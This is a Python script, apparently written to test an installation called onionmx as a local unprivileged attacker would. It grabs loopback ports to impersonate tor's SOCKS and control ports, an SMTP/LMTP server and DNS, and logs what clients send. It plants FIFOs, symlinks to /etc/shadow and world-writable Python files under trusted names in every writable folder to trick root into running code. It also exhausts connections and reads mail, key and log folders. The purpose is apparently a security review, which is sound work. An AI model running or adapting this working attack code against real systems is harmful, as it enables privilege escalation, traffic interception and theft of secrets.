"""What a local user without rights tries beside a running installation: `python3 attack.py SECONDS FOLDER`.

It runs on the machine, as that user, with Python alone. It takes every loopback port that is free or becomes free,
answers there as tor, as an MTA and as a name server, writes down what it is told, leaves traps in every folder that it
may write, reads what it can, and keeps silent connections open. What it got is told in FOLDER: `heard`, `read`, and
`root`, which only a program can make that it has tricked root into running.
"""

import asyncio
import contextlib
import errno
import os
import resource
import shutil
import socket
import stat
import subprocess
import sys
import time
from collections.abc import Iterable
from pathlib import Path

KEPT = range(32768, 61000)
"""Ports that the kernel gives to connections (ip_local_port_range): without them nobody connects to anything."""
WANTED = (25, 10025, 10026, 10027, 10028, 10029, 10030, 9050, 9051, 9052, 9053, 530, 5300)
"""Ports of the daemons, the MTA's and tor's: tried again all the time."""
SILENT = 400
"""Connections held open to each of the ports of onionmx, and to tor's socket."""
TALKED_TO = (10025, 10026, 10027, 10029)
PAUSE = 0.02
"""Seconds between two tries to get the ports that others have."""
COVETED = (
    *("/var/lib/tor", "/var/lib/onionmx", "/var/lib/onionmx-setup", "/var/lib/onionmx-serve", "/etc/onionmx"),
    *("/run/tor", "/run/onionmx", "/run/onionmx-relay", "/var/spool/exim4", "/var/spool/postfix", "/var/log"),
)
"""Folders with mail, keys, state or sockets of the installation."""
NAMES = (
    *("onionmx.cdb", "onionmx.cdb.lock", "state.sqlite", "recipients.sqlite", "manifest.json", "lock"),
    *("onionmx.sock", "lmtp", "tor", "onionmx.py", "sitecustomize.py", "mainlog.x", "onionmx-setup-", "onionmx.toml"),
)
"""Of what onionmx and its neighbours use."""
_SOCKS_YES = b"\x05\x00\x00\x01\x7f\x00\x00\x01\x00\x19"
_SOCKS = b"\x05"
_CONTROL = (b"PROTOCOLINFO", b"AUTH", b"GETINFO", b"GETCONF", b"SETEVENTS", b"QUIT")


class Attacker:
    """All of it.

    Args:
        folder: where what it got is written.
    """

    def __init__(self, folder: Path) -> None:
        self.folder = folder
        self.taken: dict[int, socket.socket] = {}
        self.program = _program(folder / f"program-{os.getpid()}", folder)
        self._heard = (folder / "heard").open("ab", buffering=0)
        self._tasks: set[asyncio.Task[None]] = set()

    async def be_others(self, ports: Iterable[int], seconds: float) -> None:
        """Take ports, and answer there as long as told."""
        end = time.monotonic() + seconds
        self._take(ports)
        print(f"{len(self.taken)} ports taken", flush=True)
        await asyncio.sleep(end - time.monotonic())

    async def attack(self, seconds: float) -> None:
        """Do everything at once, as long as told."""
        end = time.monotonic() + seconds
        udp = _udp()
        print(f"{len(udp)} ports of UDP taken", flush=True)
        print(f"{_leave_traps(self.folder, _writable())} traps left", flush=True)
        silent: dict[object, list[socket.socket]] = {}
        while time.monotonic() < end:
            self._take(port for port in WANTED if port not in self.taken)
            for port in TALKED_TO:
                if port not in self.taken:
                    _hold(silent.setdefault(port, []), socket.AF_INET, ("127.0.0.1", port))
            _hold(silent.setdefault("tor", []), socket.AF_UNIX, "/run/tor/onionmx.sock")
            for each in udp:
                with contextlib.suppress(BlockingIOError):
                    question, asker = each.recvfrom(512)
                    self._heard.write(b"\nUDP: " + question)
                    each.sendto(_virtual_address(question), asker)
            await asyncio.sleep(PAUSE)
        got = _read_all(COVETED)
        (self.folder / "read").write_bytes(got)
        print(f"{len(got)} bytes read; ports at the end: {sorted(set(WANTED) & set(self.taken))}", flush=True)

    def _take(self, ports: Iterable[int]) -> None:
        loop = asyncio.get_running_loop()
        for port in ports:
            listener = socket.socket()
            try:
                listener.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
                listener.bind(("127.0.0.1", port))
                listener.listen()
            except OSError:
                listener.close()
                continue
            listener.setblocking(False)  # noqa: FBT003 -- socket's own signature
            self.taken[port] = listener
            loop.add_reader(listener, self._accept, port, listener)

    def _accept(self, port: int, listener: socket.socket) -> None:
        with contextlib.suppress(OSError):
            connection, _ = listener.accept()
            task = asyncio.get_running_loop().create_task(self._play(port, connection))
            self._tasks.add(task)
            task.add_done_callback(self._tasks.discard)

    async def _play(self, port: int, connection: socket.socket) -> None:
        """Be what the other side takes this for."""
        with contextlib.suppress(OSError, asyncio.IncompleteReadError):
            reader, writer = await asyncio.open_connection(sock=connection)
            self._heard.write(b"\nconnection to %d\n" % port)
            try:
                first = await asyncio.wait_for(reader.read(1024), 1)
            except TimeoutError:
                first = b""
            self._heard.write(first)
            if first.startswith(_SOCKS):
                writer.write(b"\x05\x00")
                self._heard.write(await reader.read(1024))
                writer.write(_SOCKS_YES)
                first = b""
            if first.startswith(_CONTROL):
                writer.write(self._control(first))
            else:
                writer.write(b"220 mx.example ESMTP\r\n" if not first else b"250 2.0.0 yes\r\n")
            while said := await reader.read(65536):
                self._heard.write(said)
                writer.write(self._control(said) if said.startswith(_CONTROL) else _smtp(said))
            writer.close()

    def _control(self, said: bytes) -> bytes:
        if said.startswith(b"PROTOCOLINFO"):
            return (
                b"250-PROTOCOLINFO 1\r\n250-AUTH METHODS=NULL,COOKIE,HASHEDPASSWORD "
                b'COOKIEFILE="/run/tor/control.authcookie"\r\n250-VERSION Tor="0.4.9.1"\r\n250 OK\r\n'
            )
        if b"process/pid" in said:
            return b"250-process/pid=%d\r\n250 OK\r\n" % self.program.pid
        return b"250 OK\r\n"


def _program(home: Path, folder: Path) -> "subprocess.Popen[bytes]":
    """A process whose program is gone: in the place that /proc names for it is a script (C1 of the review)."""
    home.mkdir()
    program = home / "tor"
    shutil.copy("/bin/sleep", program)
    running = subprocess.Popen([program, "100000"])
    program.unlink()
    script = home / "tor (deleted)"
    script.write_text(f"#!/bin/sh\n[ $(id -u) = 0 ] && id >>{folder}/root\nexit 0\n")
    script.chmod(0o755)
    shutil.copy(script, program)
    return running


def _smtp(said: bytes) -> bytes:
    replies = b""
    for line in said.split(b"\r\n"):
        verb = line[:4].upper()
        if verb in {b"EHLO", b"LHLO"}:
            replies += b"250-mx.example\r\n250-PIPELINING\r\n250-CHUNKING\r\n250 8BITMIME\r\n"
        elif verb == b"DATA":
            replies += b"354 go on\r\n"
        elif verb in {b"HELO", b"MAIL", b"RCPT", b"BDAT", b"RSET", b"NOOP"} or line == b".":
            replies += b"250 2.0.0 yes\r\n"
    return replies


def _virtual_address(question: bytes) -> bytes:
    """An answer to a question for an address: 127.0.0.1, where every port is ours."""
    return (
        question[:2]
        + b"\x81\x80\x00\x01\x00\x01\x00\x00\x00\x00"
        + question[12:]
        + b"\xc0\x0c\x00\x01\x00\x01"
        + (b"\x00\x00\x00\x3c\x00\x04\x7f\x00\x00\x01")
    )


def _udp() -> list[socket.socket]:
    """Tor's DNSPorts, also beside those who have them (SO_REUSEADDR)."""
    found = []
    for port in (530, 5300, 5353, 9053):
        bound = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        bound.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        bound.setblocking(False)  # noqa: FBT003 -- socket's own signature
        try:
            bound.bind(("127.0.0.1", port))
        except OSError:
            bound.close()
        else:
            found.append(bound)
    return found


def _hold(held: list[socket.socket], family: socket.AddressFamily, address: object) -> None:
    """Open some more silent connections; those that the other side has ended are opened again."""
    for connection in list(held):
        try:
            if connection.recv(4096):
                continue
        except BlockingIOError:
            continue
        except OSError:
            pass
        connection.close()
        held.remove(connection)
    for _ in range(min(20, SILENT - len(held))):
        connection = socket.socket(family)
        connection.setblocking(False)  # noqa: FBT003 -- socket's own signature
        if connection.connect_ex(address) not in {0, errno.EINPROGRESS}:  # type: ignore[arg-type]
            connection.close()
            return
        held.append(connection)


def _writable() -> list[Path]:
    """Every folder of the machine that this user may write."""
    found = []
    for folder, folders, _ in os.walk("/"):
        folders[:] = [name for name in folders if folder != "/" or name not in {"proc", "sys"}]
        if os.access(folder, os.W_OK):
            found.append(Path(folder))
    return found


def _leave_traps(own: Path, folders: Iterable[Path]) -> int:
    """FIFOs, links to what is not ours, and programs, under the names that somebody might open."""
    count = 0
    for folder in folders:
        if folder.is_relative_to(own):
            continue
        for number, name in enumerate(NAMES):
            with contextlib.suppress(OSError):
                path = folder / name
                if number % 3 == 0:
                    os.mkfifo(path)
                elif number % 3 == 1:
                    path.symlink_to("/etc/shadow" if number % 2 else own / "caught")
                else:
                    path.write_text(f"import os\nos.getuid() or open({str(own / 'root')!r}, 'w')\n")
                    path.chmod(0o777)
                count += 1
    return count


def _read_all(folders: Iterable[str]) -> bytes:
    """Everything that can be read, or written, where it should not be."""
    found = b""
    for top in folders:
        for folder, _, names in os.walk(top):
            for name in names:
                path = Path(folder, name)
                with contextlib.suppress(OSError):
                    if not stat.S_ISREG(path.lstat().st_mode):
                        continue  # tor's sockets are for all
                    if os.access(path, os.W_OK):
                        found += f"\nMAY BE WRITTEN: {path}\n".encode()
                    found += f"\n{path}:\n".encode() + path.read_bytes()[:1_000_000]
    return found


def main(seconds: float, folder: Path) -> None:
    """Attack, with as many processes as the limit of open files asks for."""
    limit = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
    resource.setrlimit(resource.RLIMIT_NOFILE, (limit, limit))
    ports = [port for port in range(1, 65536) if port not in KEPT and port not in WANTED]
    each = limit // 2
    helpers = []
    for begin in range(0, len(ports), each):
        if not (helper := os.fork()):
            attacker = Attacker(folder)
            try:
                asyncio.run(attacker.be_others(ports[begin : begin + each], seconds))
            finally:
                attacker.program.kill()
                os._exit(0)
        helpers.append(helper)
    attacker = Attacker(folder)
    try:
        asyncio.run(attacker.attack(seconds))
    finally:
        attacker.program.kill()
        for helper in helpers:
            os.waitpid(helper, 0)


if __name__ == "__main__":
    main(float(sys.argv[1]), Path(sys.argv[2]))
